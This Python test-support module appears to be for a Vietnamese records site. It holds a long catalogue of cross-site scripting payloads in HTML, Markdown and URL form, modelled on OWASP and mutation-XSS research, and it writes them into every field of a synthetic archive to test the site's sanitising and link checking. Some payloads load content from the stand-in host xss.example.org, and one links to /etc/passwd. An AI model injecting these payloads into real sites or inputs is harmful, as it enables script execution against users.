"""Texts that try to run a script or to load something from elsewhere, each in one line, and the synthetic archive that is full of them.

Kinds after OWASP's XSS filter evasion cheat sheet, the html5sec list, and what is known of sanitizers that parse otherwise than browsers do (mXSS).
"""

from __future__ import annotations

import shutil
from itertools import cycle, islice
from pathlib import Path

import yaml

from plugins.records.body import pointers

FAR = "xss.example.org"  # Nobody's: what is asked of it, was asked by a vector.

# HTML, as raw text of a body, a title, a name, a question.
HTML = [
    "<script>alert(1)</script>",
    f"<script src=//{FAR}/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\t>alert(1)</script\t>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?x ><img src=x onerror=alert(1)>?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror\t=\talert(1)>",
    "<img src='x' onerror='alert(1)'>",
    "<img src=`x` onerror=`alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=images/thu.png onload=alert(1)>",
    '<img src="images/thu.png" alt="> " onload=alert(1) x=">',
    '<img src="images/thu.png" alt=\'" onload=alert(1) x="\'>',
    f"<img src=//{FAR}/a.png>",
    f"<img src=images/thu.png srcset=//{FAR}/b.png>",
    f"<img lowsrc=//{FAR}/c.png dynsrc=//{FAR}/d.png>",
    "<image src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onerror=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><set onbegin=alert(1) attributeName=x></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style>{font-family:'<img/src=x/onerror=alert(1)>'",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#http://x xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><a title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img onerror=alert(1) src&gt;</listing>",
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
    '<style><a title="</style><img src=x onerror=alert(1)>">',
    '<iframe><a title="</iframe><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    '<select><template><img src=x onerror=alert(1)></template><style><!--</style><a rel="--></style></select><img src=x onerror=alert(1)>">',
    "<select><noembed></select><script x='a@b'a> y='a@b'//a@b%0a\\u0061lert(1)</script x>",
    "<table><td background=javascript:alert(1)>x",
    "<table><caption><img src=x onerror=alert(1)></caption></table>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=javascript&#0000058alert(1)>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    "<a href=livescript:alert(1)>x</a>",
    "<a href=view-source:javascript:alert(1)>x</a>",
    "<a href=feed:javascript:alert(1)>x</a>",
    "<a href=blob:null/x>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    f"<a href=https://example.org/ ping=//{FAR}/ping>x</a>",
    "<a href=https://example.org/ onclick=alert(1) style=position:fixed;inset:0>x</a>",
    "<a href='x' title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<a title='>'>\" onmouseover=alert(1) x=\"</a>",
    '<a href="x" title="<!--">x</a><b title="--><img src=x onerror=alert(1)>">x</b>',
    '<abbr title="</abbr><img src=x onerror=alert(1)>">x</abbr>',
    "<time datetime='\" onmouseover=alert(1) \"'>x</time>",
    "<p id='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p lang='\"><img src=x onerror=alert(1)>'>x</p>",
    "<ol start='\"><img src=x onerror=alert(1)>'><li>x</ol>",
    "<b onmouseover=alert(1) style=animation-name:x onanimationstart=alert(1)>x</b>",
    "<x onclick=alert(1) onfocus=alert(1) autofocus tabindex=1>x</x>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    f"<form action=//{FAR}/><input name=x><button>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    f"<video poster=//{FAR}/p.png><source src=//{FAR}/v></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1) onpageshow=alert(1) background=//xss.example.org/bg>",
    "<html onclick=alert(1) manifest=//xss.example.org/m>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>",
    f"<iframe src=//{FAR}/></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    f"<embed src=//{FAR}/e>",
    f"<applet archive=//{FAR}/a code=x></applet>",
    f"<link rel=stylesheet href=//{FAR}/x.css>",
    f"<link rel=prefetch href=//{FAR}/x><link rel=preconnect href=//{FAR}>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    f"<base href=//{FAR}/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<meta http-equiv=refresh content='0;url=//{FAR}/'>",
    "<meta charset=x-mac-farsi>¼script ¾alert(1)//¼/script ¾",
    "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
    f"<style>@import '//{FAR}/x.css';</style>",
    f"<style>*{{background:url(//{FAR}/bg)}}</style>",
    f"<p style=background:url(//{FAR}/st)>x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    '<div style="behavior:url(x);-moz-binding:url(x)">x</div>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028<script>alert(1)</script>\u2029",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "{{ 7*7 }}{% raw %}<img src=x onerror=alert(1)>{% endraw %}",
    "${alert(1)}`${alert(1)}`",
    "';alert(1)//\";alert(1)//`;alert(1)//--></script>\"'><img src=x onerror=alert(1)>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "<dl><dt id=__proto__><dd id=toString>x</dl><img name=cookie src=images/thu.png><a id=self href=x></a>",
    "<is-it onclick=alert(1)><slot name=x onslotchange=alert(1)>x</slot></is-it>",
    "<p is=x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x</p>",
    "<canvas onclick=alert(1)>x</canvas><keygen autofocus onfocus=alert(1)>",
    "<ruby oncopy=alert(1)>x</ruby><map><area href=javascript:alert(1)></map>",
]
# As Markdown writes links, images, code and what it keeps aside until its end.
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x0cjavascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    "[x](//javascript:alert(1))",
    '[x](https://example.org/ "\\" onmouseover=alert(1) \\"")',
    "[x](https://example.org/ '\" onmouseover=alert(1) \"')",
    '[x](https://example.org/"onmouseover=alert(1))',
    "[x](https://example.org/'><img/src=x/onerror=alert(1)>)",
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x][y]\n\n[y]: <javascript:alert(1)> "x"',
    "[x][y]\n\n[y]: https://example.org/ '\" onmouseover=alert(1) \"'",
    "[x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<javascript://example.org/%0aalert(1)>",
    "<data:text/html,alert(1)>",
    '<"onclick=alert(1)//@example.org>',
    "<mailto:a@example.org?body=<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    '![x" onerror=alert(1) y="](images/thu.png)',
    '![x](images/thu.png "\\" onload=alert(1) \\"")',
    "![x](images/thu.png'onload='alert(1))",
    f"![x](//{FAR}/m.png)",
    f"![x](https://{FAR}/m.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"![x][y]\n\n[y]: //{FAR}/r.png",
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>``",
    "`` `<script>alert(1)</script> ``",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    '```html" onmouseover=alert(1) x="\n<img src=x onerror=alert(1)>\n```',
    "```{.x onclick=alert(1)}\nx\n```",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "x {: onclick=alert(1) }",
    "## x {: onclick=alert(1) }",
    '## x {#"><img src=x onerror=alert(1)>}',
    '*[UBND]: "><img src=x onerror=alert(1)>',
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "- <script>\n- alert(1)</script>",
    "<div markdown=1>\n[x](javascript:alert(1))\n<script>alert(1)</script></div>",
    "<p>\n**x** <img src=x onerror=alert(1)>\n</p>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "*<img src=x onerror=alert(1)>*__<svg onload=alert(1)>__",
    "<scr*i*pt>alert(1)</scr*i*pt>",
    "**<script**>alert(1)**</script>**",
    '<a href="`">x`" onclick=alert(1)>x</a>',
    '<img alt="*" src="*x onerror=alert(1)">',
    "[x](`javascript:alert(1)`)",
    "Nghị định 10<img src=x onerror=alert(1)>/2020/NĐ-CP, UBND<script>alert(1)</script>",
]
VECTORS = [*HTML, *MARKDOWN]

# How a text may stand in a body.
AROUND = (
    "{}",
    "Chữ {} chữ",
    "- việc\n- {}",
    "> {}",
    "| a |\n|---|\n| {} |",
    "## {}",
    "**{}**",
    "[{}](https://example.org/)",
    "`{}`",
    '"{}"',
    "<p>{}</p>",
    '<a title="{}">x</a>',
)

# Addresses that the checker of sources takes: they are addresses of web pages.
ADDRESSES = (
    'https://example.org/"onmouseover=alert(1)//',
    "https://example.org/'onmouseover=alert(1)//",
    "https://example.org/<script>alert(1)</script>",
    'https://example.org/?q="><img/src=x/onerror=alert(1)>',
    "https://example.org/#</script><script>alert(1)</script>",
    "HTTPS://example.org/javascript:alert(1)",
)


def write_archive(content: Path, template: Path) -> list[str]:
    """Write a synthetic archive, every text of whose records and registers is a vector, beside the tiny site's registers; return the ids of its records."""
    for name in ("data", "images"):
        shutil.copytree(template / name, content / name)
    _poison_registers(content / "data")
    texts = cycle(" ".join(vector.split()) for vector in HTML)
    # The checker refuses links and images that lead nowhere; what becomes of them nevertheless is seen by the renderer alone.
    accepted = [vector for vector in VECTORS if _leads_nowhere(vector)]
    waiting = list(accepted)

    def some(number: int = 2) -> str:
        # The one that breaks out of most places stands in every field.
        return " ".join(["thử", *islice(texts, number), "\"'><img src=x onerror=alert(1)></script><script>alert(1)</script>"])

    ids = []
    for number in range(16):
        ids.append(f"thu-{number:02}")
        path = content / "tin" / "2021" / "03" / f"{ids[-1]}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        address = ADDRESSES[number % len(ADDRESSES)]
        front = {
            "title": some(3), "date": f"2021-03-{number + 1:02}?", "date_note": some(), "published": "2021-04-01", "locality": ["Sông Thử, Mẫu Tây"],
            "locality_note": some(), "venue": some(), "decree": ["10/2020/NĐ-CP"], "decree_note": some(), "kind": "giao ban", "forces": ["Công an"],
            "chair": [{"name": some(1), "role": some(1)}], "chair_note": some(),
            "figures": [{"label": some(1), "value": 7, "unit": some(1), "note": some(1)}],
            "promises": [{"text": some(1), "due": "2022"}], "topics": [f"chủ đề {number} {next(texts)}"], "summary": some(3),
            "source": {"publisher": some(1), "title": some(1), "url": address, "author": some(1), "photo_credit": some(1), "rights": some(1), "note": some(1)},
            "other_sources": [{"publisher": some(1), "title": some(1), "url": address, "note": some(1)}],
            "image": {"file": "images/thu.png", "alt": some(1), "caption": some(1), "credit": some(1)},
            "corrections": [{"date": "2026-01-03", "note": some(1)}], "featured": number == 0, "added": "2026-01-02",
        }  # fmt: skip
        if number == 15:
            del front["locality"]
            front |= {"level": "trung ương", "series": some(1)}
        if number == 14:
            front |= {"status": "withdrawn", "withdrawn": {"date": "2026-01-04", "reason": some(3)}}
        body = "Đoạn thử."
        while waiting and not pointers(longer := f"{body}\n\nChữ {waiting[-1]}\n\n{waiting[-1]}") and len(body) < 1500:
            body = longer
            waiting.pop()
        path.write_text(f"---\n{yaml.safe_dump(front, allow_unicode=True, width=100_000)}---\n\n{body}\n", encoding="utf-8")
    pages = content / "pages"
    pages.mkdir()
    for file in (template / "pages").iterdir():
        text = file.read_text(encoding="utf-8").replace("bai-thu", "trang-thu")
        head, front, body = text.split("---\n", 2)
        fields = yaml.safe_load(front) | {"title": some(1), "summary": some(1)}
        for vector in accepted:
            if not pointers(longer := f"{body}\n\n## {vector}\n\n{vector}", page=True):
                body = longer
        (pages / file.name).write_text(f"{head}---\n{yaml.safe_dump(fields, allow_unicode=True, width=100_000)}---\n{body}\n", encoding="utf-8")
    return ids


def _leads_nowhere(vector: str) -> bool:
    """Return whether the checker finds neither link nor image in it, and no sign that it refuses."""
    return not any(pointers(vector, page=page) or pointers(f"Chữ {vector}", page=page) for page in (True, False)) and not set("\u2028\x02\x0c") & set(vector)


def _poison_registers(data: Path) -> None:
    bad = '<img src=x onerror=alert(1)>\'""></script><script>alert(1)</script>'  # In CSV a quote is written twice.
    plain = bad.replace('""', '"')

    def change(name: str, *pairs: tuple[str, str]) -> None:
        text = (data / name).read_text(encoding="utf-8")
        for old, new in pairs:
            assert old in text, (name, old)
            text = text.replace(old, new)
        (data / name).write_text(text, encoding="utf-8")

    change("places.csv", ("Dữ liệu thử,Nơi không có thật", f'"Dữ liệu {bad}","Nơi {bad}"'), ("mau-bac,Mẫu Bắc,", f'mau-bac,"Mẫu Bắc {bad}",'))
    change("forces.csv", ("Công an địa phương.", f'"Công an {bad}"'), ("quan-su,Quân sự,", f'quan-su,"Quân sự {bad}",'))
    change("glossary.csv", ("Ủy ban nhân dân", f'"Ủy ban {bad}"'), ("tùy văn cảnh", f'"tùy {bad}"'))
    change("tile-map.csv", (",Mẫu Bắc,", f',"Bắc {bad}",'))
    quoted = plain.replace('"', '\\"')
    change(
        "decrees.yaml",
        (", record: mau-tay-2019-07-05", ', url: "https://example.org/bai"'),
        ('"Trang thử"', f'"Trang {quoted}"'),
        ("title: về việc phối hợp thử\n", f'title: "về {quoted}"\n'),
        ("subject: Nghị định thử về phối hợp.", f'subject: "Về {quoted}"'),
        ("issuer: Chính phủ", f'issuer: "Chính phủ {quoted}"'),
        ('note: "chưa thấy trang nào nói"', f'note: "chưa {quoted}"'),
        ("short_name: Nghị định 07/2010", f'short_name: "Nghị định 07/2010 {quoted}"'),
    )
